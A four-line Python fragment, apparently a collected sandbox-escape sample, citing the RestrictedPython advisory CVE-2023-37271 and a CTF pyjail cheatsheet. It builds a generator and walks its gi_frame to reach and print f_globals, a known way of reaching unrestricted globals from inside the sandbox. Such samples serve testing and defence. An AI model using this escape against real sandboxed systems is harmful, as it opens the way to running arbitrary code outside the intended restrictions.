# Source: RestrictedPython CVE-2023-37271 / GHSA-wqc8-x2pr-7jqh (generator gi_frame walk); also https://github.com/salvatore-abello/python-ctf-cheatsheet/blob/main/pyjails/README.md
g = (c for c in "abc")
env = g.gi_frame.f_globals
print(env)
